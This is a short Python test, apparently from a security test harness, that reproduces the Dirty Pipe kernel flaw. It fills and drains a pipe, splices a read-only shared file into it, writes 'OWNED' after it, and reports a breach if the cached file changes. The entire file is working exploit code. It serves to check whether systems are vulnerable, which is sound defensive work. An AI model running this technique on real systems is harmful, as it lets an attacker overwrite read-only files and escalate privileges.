"""Splices a file that all share into a pipe and writes after it, as Dirty Pipe did."""
# expect: completed
import os

from attack import *


class Attack(Trial):
    def attack(self):
        path = os.__file__
        before = read(path, 4096)
        reader, writer = os.pipe()
        for _ in range(16):  # every buffer of the pipe may be merged into, once
            os.write(writer, b"x" * 4096)
        for _ in range(16):
            os.read(reader, 4096)
        fd = os.open(path, os.O_RDONLY)
        try:
            syscall("splice", fd, None, writer, None, 1, 0)
            os.write(writer, b"OWNED")
        except OSError as error:
            tried(f"splice: {error}")
        if read(path, 4096) != before:
            breach(f"{path} was changed in the page cache")
        tried("the file is as it was")
